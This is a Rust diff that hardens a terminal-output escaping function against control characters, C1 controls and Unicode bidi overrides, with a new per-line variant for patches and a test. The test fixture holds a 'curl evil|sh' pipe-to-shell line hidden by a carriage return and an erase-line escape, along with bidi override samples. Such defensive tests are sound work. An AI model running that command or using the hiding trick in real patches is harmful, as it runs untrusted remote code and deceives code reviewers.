@@ -75,29 +75,52 @@ macro_rules! errln {
     ($($arg:tt)*) => { $crate::output::err_line(format_args!($($arg)*)) };
 }
 
-/// Text from outside (a goal, a sister's reason, its stderr) as it may reach a terminal:
-/// control characters (ESC, BEL, a carriage return) are shown escaped, so the text can
-/// neither move the cursor nor retitle the window. Tabs stay.
+/// Text from outside (a goal, a sister's reason, its stderr, a commit's subject) as it may
+/// reach a terminal: control characters (ESC, BEL, a carriage return, the C1 ones) are
+/// shown escaped (`\u{1b}`), so the text can neither move the cursor, erase what came
+/// before it on its line nor retitle the window; so are the Unicode controls that reorder
+/// what follows (`bidi`), so a line cannot show its end first. Tabs stay.
 pub fn escape_controls(text: &str) -> std::borrow::Cow<'_, str> {
     // ASCII, the usual case, is judged byte by byte: its control characters are the
     // bytes below a space, and DEL.
     let clean = if text.is_ascii() {
         !text.bytes().any(|b| (b < b' ' && b != b'\t') || b == 0x7f)
     } else {
-        !text.chars().any(|c| c.is_control() && c != '\t')
+        !text.chars().any(escaped)
     };
     if clean {
         return std::borrow::Cow::Borrowed(text);
     }
     let mut out = String::with_capacity(text.len() + 8);
     for c in text.chars() {
-        match c {
-            '\t' => out.push(c),
-            c if c.is_control() => out.push_str(&c.escape_unicode().to_string()),
-            c => out.push(c),
+        if escaped(c) {
+            out.extend(c.escape_unicode());
+        } else {
+            out.push(c);
         }
     }
     std::borrow::Cow::Owned(out)
+}
+
+/// Text of many lines from outside (a patch) as it may reach a terminal: each line as
+/// `escape_controls` shows it, the line breaks kept.
+pub fn escape_controls_by_line(text: &str) -> std::borrow::Cow<'_, str> {
+    let lines: Vec<std::borrow::Cow<'_, str>> = text.split('\n').map(escape_controls).collect();
+    if lines
+        .iter()
+        .all(|line| matches!(line, std::borrow::Cow::Borrowed(_)))
+    {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    std::borrow::Cow::Owned(lines.join("\n"))
+}
+
+/// Whether `c` is shown escaped: a control character other than a tab, or one of
+/// Unicode's bidirectional formatting characters (the embeddings and overrides
+/// U+202A–U+202E, the isolates U+2066–U+2069, the marks U+200E and U+200F).
+fn escaped(c: char) -> bool {
+    (c.is_control() && c != '\t')
+        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
 }
 
 /// The process exit codes of `SPEC.md` §6.
@@ -156,5 +179,26 @@ mod tests {
                 );
             }
         }
+    }
+
+    /// A patch line that would show only its harmless comment on a terminal (a carriage
+    /// return, then ESC erasing the line) shows all it holds, its bidi overrides too;
+    /// the line breaks stay.
+    #[test]
+    fn a_patch_line_shows_its_carriage_return_escape_and_bidi_controls() {
+        let patch = "+curl evil|sh\r\u{1b}[2K+# harmless comment\n+let ok = \"\u{202e}\u{2066}x\u{2069}\u{200f}\";\tnext\n";
+        assert_eq!(
+            super::escape_controls_by_line(patch),
+            "+curl evil|sh\\u{d}\\u{1b}[2K+# harmless comment\n+let ok = \"\\u{202e}\\u{2066}x\\u{2069}\\u{200f}\";\tnext\n"
+        );
+        assert_eq!(
+            escape_controls("subject \u{85}\u{9b}31m \u{202a}\u{200e}"),
+            "subject \\u{85}\\u{9b}31m \\u{202a}\\u{200e}"
+        );
+        let clean = "+fn main() {}\n\t+ünïcode → fine\n";
+        assert!(matches!(
+            super::escape_controls_by_line(clean),
+            Cow::Borrowed(_)
+        ));
     }
 }
